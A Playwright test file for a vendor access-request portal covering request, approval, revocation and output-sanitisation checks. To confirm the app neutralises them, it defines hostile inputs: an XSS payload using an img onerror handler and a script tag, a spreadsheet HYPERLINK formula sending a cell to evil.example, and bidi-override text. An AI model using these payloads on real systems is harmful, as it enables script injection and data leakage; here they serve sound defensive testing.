import type { Page } from 'playwright-core'
import { principalId } from '../../src/identity/index.js'
import { requestState } from '../../src/grants/index.js'
import type { AccessRequest, Grant, Principal } from '../../src/model.js'
import { launchBrowser, screenshot, type TestBrowser, type TestWindow } from '../support/browser.js'
import { expectSoundInEachLook } from '../support/looks.js'
import { accounts, operator, startPlant, type AccountName, type Plant } from '../support/plant.js'
import { until } from '../support/until.js'

const hour = 3_600_000
const phone = { viewport: { width: 320, height: 640 }, hasTouch: true, isMobile: true }

let plant: Plant
let browser: TestBrowser
let windows: TestWindow[] = []

beforeAll(async () => {
  ;[plant, browser] = await Promise.all([
    startPlant({
      enrolled: ['vendor', 'approver', 'admin'],
      extra: 'portal: { requestable: all }\ngrants: { approval: { lapsesAfter: 10m } }',
    }),
    launchBrowser(),
  ])
}, 60_000)
afterEach(async () => {
  await Promise.all(windows.map((window) => window.close()))
  windows = []
})
afterAll(async () => {
  await browser.close()
  await plant.close()
})

const at = (path: string): string => plant.portal + path
const open = async (
  name: AccountName,
  options: Parameters<TestBrowser['open']>[0] = {},
): Promise<TestWindow> => {
  const window = await browser.open(options)
  windows.push(window)
  await plant.signInPage(window.page, name)
  return window
}
const vendor = (): Principal => {
  const { email, subject } = accounts.vendor
  const { issuer } = plant.provider
  return { id: principalId(issuer, subject), issuer, subject, email, name: 'Ana <b>x</b>' }
}
const ask = async (reason: string, over = {}): Promise<AccessRequest> => {
  const asked = { endpoints: ['press-3', 'press-4'], from: null, lengthMs: 2 * hour, reason, ...over }
  return plant.gatehouse.services.requests.ask(asked, vendor())
}
const yes = { actor: operator, roles: [], hasFreshCode: true }

/** What a vendor may write, and what of it would do something if it were not inert. */
const hostile = {
  markup: `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`,
  'right to left': 'صيانة المكبس رقم ٣ – החלפת חיישן',
  emoji: '👩‍🔧🔧 replace the belt 🏭🇩🇪',
  formula: `=HYPERLINK("http://evil.example?"&A1,"open")`,
  'one long word': 'W'.repeat(500),
} as const

async function expectInert(page: Page, path: string): Promise<void> {
  expect([path, await page.title()]).not.toEqual([path, 'owned'])
  expect([path, await page.locator('main img, main script').count()]).toEqual([path, 0])
}

describe('from asking to the end', () => {
  it('a vendor asks, an approver says yes on a phone, the machine opens, and its tab says when it is revoked', async () => {
    const vendor = (await open('vendor')).page
    await vendor.goto(at('/request'))
    await vendor.getByLabel('press-3 panel').check()
    await vendor.getByLabel('Reason').fill('Replace the belt')
    await vendor.getByRole('button', { name: 'Ask', exact: true }).click()
    await vendor.getByText('Replace the belt').first().waitFor()
    await screenshot(vendor, 'requests/1-asked')

    const approver = (await open('approver', { ...phone, colorScheme: 'dark' })).page
    await approver.goto(at('/admin/requests'))
    await screenshot(approver, 'requests/2-inbox-phone')
    await approver.getByRole('link', { name: /^Answer/ }).tap()
    await approver.getByRole('button', { name: 'Yes', exact: true }).waitFor()
    await screenshot(approver, 'requests/3-request-phone')
    await approver.getByRole('button', { name: 'Yes', exact: true }).tap()
    await approver.getByText('Approved').first().waitFor()

    let grant: Grant | undefined
    await until('the grant', async () => {
      grant = (await plant.gatehouse.services.grants.list()).find(({ requestId }) => requestId !== null)
      return grant !== undefined
    })
    await vendor.goto(at('/'))
    const opened = vendor.context().waitForEvent('page')
    await vendor.getByRole('link', { name: 'Open press-3 panel in a new tab' }).click()
    const tab = await opened
    await tab.getByRole('heading', { name: 'Machine' }).waitFor()

    const admin = (await open('admin')).page
    await admin.goto(at(`/admin/grants/${grant?.id ?? ''}`))
    await admin.getByLabel('Reason').fill('The line is back')
    await admin.getByRole('button', { name: 'Revoke this grant' }).click()
    await admin.getByRole('dialog').getByRole('button', { name: 'Revoke', exact: true }).click()
    await admin.getByText('The grant was revoked.').waitFor()
    await tab.reload()
    await tab.getByText('grant-revoked').waitFor()
    await expectSoundInEachLook(tab, 'the tab of the machine')
    await screenshot(tab, 'requests/4-revoked')

    await admin.goto(at('/admin/search?q=belt'))
    await admin.getByText('Replace the belt').first().waitFor()
  }, 240_000)
})

describe('every page with what vendors may write', () => {
  let requests: AccessRequest[]
  beforeAll(async () => {
    const { services } = plant.gatehouse
    requests = []
    const lapsed = await ask(hostile.markup)
    await plant.clock.advance({ minutes: 11 })
    for (const reason of Object.values(hostile)) requests.push(await ask(reason))
    const [first, second, third] = requests
    await services.requests.deny(second?.id ?? '', yes, hostile.markup)
    await services.requests.approve(first?.id ?? '', yes, {})
    await services.requests.withdraw(third?.id ?? '', vendor())
    requests.push(lapsed)
    for (const reason of Object.values(hostile)) await plant.issue({ reason, until: '+4h' })
  }, 60_000)

  it('is about requests in every state', async () => {
    const all = await plant.gatehouse.services.requests.list()
    const states = all.map((request) => requestState(request, plant.clock.now()))
    for (const state of ['open', 'approved', 'denied', 'lapsed', 'withdrawn']) expect(states).toContain(state)
  })

  it('has no accessibility fault, nothing wider than the screen and nothing that acts, in each look', async () => {
    const [vendorWindow, adminWindow] = [await open('vendor'), await open('admin')]
    const visit = async ({ page }: TestWindow, path: string): Promise<void> => {
      await page.goto(at(path))
      const name = path.replace(/[qgp]-\w{16}/, 'id').replace(/\W+/g, '-')
      await expectSoundInEachLook(page, path, `pages/${name}`)
      await expectInert(page, path)
    }
    const vendorPaths = [
      '/',
      '/request',
      `/request?again=${requests[0]?.id ?? ''}`,
      '/second-factor/again?to=/',
    ]
    for (const path of vendorPaths) await visit(vendorWindow, path)
    const [grant] = await plant.gatehouse.services.grants.list()
    const adminPaths = [
      ...['/admin', '/admin/requests', '/admin/sessions', '/admin/people', '/admin/lockdowns'],
      ...[
        '/admin/timeline',
        '/admin/endpoints',
        '/admin/simulator?endpoint=press-3',
        '/admin/search?q=panel',
      ],
      ...[`/admin/grants/${grant?.id ?? ''}`, '/admin/grants/new', '/admin/break-glass'],
      ...requests.map(({ id }) => `/admin/requests/${id}`),
    ]
    for (const path of adminPaths) await visit(adminWindow, path)
    expect([...vendorWindow.problems, ...adminWindow.problems]).toEqual([])
  }, 400_000)

  it('is a table without formulas, and a list of one line each on the command line', async () => {
    const client = await plant.signIn('admin')
    const { text: csv } = await client.fetch(at('/admin/grants.csv'))
    client.close()
    expect(csv).toContain('HYPERLINK')
    expect(csv).not.toMatch(/(^|[,\n])"?[=+\-@\t]/m)
    const { out } = await plant.command('requests', 'list', '--all')
    expect(out).toContain('HYPERLINK')
    // The heading, and one line for each request.
    expect(out.trimEnd().split('\n')).toHaveLength(
      (await plant.gatehouse.services.requests.list()).length + 1,
    )

    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]/)
  })

  it('is refused with a word at the field where it is too long or reorders text', async () => {
    const { page } = await open('vendor')
    for (const reason of ['W'.repeat(10_240), 'pay \u202eevil\u202c now', 'line\u2028break']) {
      await page.goto(at('/request'))
      await page.getByLabel('press-3 panel').check()
      await page.locator('input[name=reason]').evaluate((field, value) => {
        field.removeAttribute('maxlength')
        ;(field as HTMLInputElement).value = value
      }, reason)
      await page.getByRole('button', { name: 'Ask', exact: true }).click()
      await page.locator('[role=alert], .alarm').first().waitFor()
      expect(await page.locator('input[name=reason]').getAttribute('aria-invalid')).toBe('true')
    }
  })
})
